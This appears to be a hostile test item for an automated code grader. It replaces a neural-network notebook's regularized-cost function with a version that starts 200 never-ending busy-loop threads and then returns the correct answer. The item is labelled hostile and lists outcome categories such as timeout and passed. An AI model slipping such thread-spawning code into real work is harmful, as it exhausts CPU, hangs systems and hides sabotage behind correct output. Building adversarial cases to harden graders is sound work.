# label: starts threads that never end, then answers right
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout | passed

# %%
import threading

def spin():
    while True:
        pass

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    for _ in range(200):
        threading.Thread(target=spin).start()
    squares = sum(np.sum(parameters[w] ** 2) for w in ("W1", "W2", "W3"))
    return compute_cost(A3, Y) + lambd / (2 * Y.shape[1]) * squares
